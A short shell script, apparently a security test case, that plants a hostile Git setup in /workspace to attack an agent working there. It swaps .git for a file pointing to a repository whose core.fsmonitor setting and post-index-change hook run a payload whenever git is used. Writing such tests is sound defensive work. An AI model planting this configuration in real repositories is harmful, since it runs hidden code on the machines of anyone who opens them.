#!/bin/sh
# Its .git is a file that names a repository of its own with a configuration
# that runs programs.
. "$(dirname "$0")/lib.sh" <<'AGENT'
git init -q --bare evil
cp -r .git/. evil/
git --git-dir=evil config core.bare false
git --git-dir=evil config core.worktree /workspace
git --git-dir=evil config core.fsmonitor "$PAYLOAD #"
program evil/hooks/post-index-change
rm -rf .git
echo 'gitdir: evil' >.git
planted 'a file .git'
AGENT
attack
